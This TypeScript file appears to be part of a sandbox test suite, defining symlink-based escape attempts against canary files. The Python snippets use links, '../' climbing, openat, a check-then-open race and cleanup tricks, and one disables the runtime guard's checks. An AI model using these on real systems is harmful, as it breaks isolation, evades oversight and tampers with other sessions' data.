import type { Family } from './attack.js';
import { climbed, native } from './preludes.js';

const CLEANING = {
  notProvable: 'it is aimed at a host that cleans up, and the careless one leaves everything',
};

/** Names that lead elsewhere. */
export const symlinks: Family = {
  name: 'symlinks',
  attacks: [
    {
      name: 'reads through a link in its own folder',
      kind: 'boundary',
      aims: ['shared-file'],
      code: climbed(`
import os
os.symlink(CANARY["file"], "innocent.txt")
print(open("innocent.txt").read())
`),
    },
    {
      name: 'writes through a link to a folder',
      kind: 'boundary',
      aims: ['kept-folder'],
      code: climbed(`
import os
os.symlink(CANARY["folder"], "folder")
open("folder/dropped", "w").write("dropped")
`),
    },
    {
      name: 'gives a file of others a second name',
      kind: 'boundary',
      aims: ['kept-file'],
      code: climbed(`
import os
try: os.link(CANARY["kept"], "mine")
except OSError: os.link(CANARY["kept"], CANARY["kept"] + ".second")
with open("mine", "w") as file: file.write("changed")
`),
    },
    {
      name: 'goes up by dots',
      kind: 'boundary',
      aims: ['shared-file'],
      code: climbed(`
import os
os.makedirs("a/b", exist_ok=True)
for path in ("../" * 30 + CANARY["file"], "a/b/" + "../" * 30 + CANARY["file"]):
    try: print(open(path).read())
    except OSError: pass
`),
    },
    {
      name: 'goes up from a descriptor of a folder',
      kind: 'boundary',
      aims: ['shared-file', 'kept-folder'],
      code: native(`
fd = libc.open(b".", os.O_RDONLY | os.O_DIRECTORY)
for _ in range(30):
    up = libc.openat(fd, b"..", os.O_RDONLY | os.O_DIRECTORY)
    if up < 0: break
    fd = up
one = libc.openat(fd, CANARY["file"].lstrip("/").encode(), 0)
print(os.read(one, 4096) if one >= 0 else "")
libc.mkdirat(fd, (CANARY["folder"] + "/dropped").lstrip("/").encode(), 0o700)
`),
    },
    {
      name: 'swaps a file for a link between the check and the opening',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `
load = print.__self__.__import__
posix, threading = load("posix"), load("threading")
if "rlm_runtime.guard" in load("sys").modules:
    for event in ("os.symlink", "os.rename", "os.remove"): load("sys").modules["rlm_runtime.guard"]._CHECKS.pop(event, None)
open("plain", "w").write("plain")
posix.symlink(CANARY["file"], "link")
done = []
def swap():
    while not done:
        posix.rename("plain", "target"); posix.rename("target", "plain")
        posix.rename("link", "target"); posix.rename("target", "link")
one = threading.Thread(target=swap, daemon=True)
one.start()
for _ in range(30000):
    try: text = open("target").read()
    except OSError: continue
    if "canary" in text:
        print(text)
        break
done.append(True)
one.join()
`,
    },
    {
      name: 'leaves a link where the host cleans up',
      kind: 'boundary',
      aims: ['kept-file'],
      live: CLEANING,
      code: climbed(`
import os
folder = os.getcwd()
os.symlink(os.path.dirname(CANARY["kept"]), "to-be-removed")
try:
    os.rename(folder, folder + ".moved")
    os.symlink(os.path.dirname(CANARY["kept"]), folder)
except OSError: pass
`),
    },
    {
      name: 'reads and changes what another session has in its folder',
      kind: 'boundary',
      aims: ['neighbour'],
      code: climbed(`
import os
here = os.getcwd()
for folder in (os.path.dirname(here), "/tmp"):
    try: names = sorted(os.listdir(folder))
    except OSError: names = ["session-%d" % n for n in range(1, 500)]
    for name in names:
        path = os.path.join(folder, name, "note.txt")
        try:
            print(open(path).read())
            open(path, "w").write("changed")
        except OSError: pass
`),
    },
  ],
};
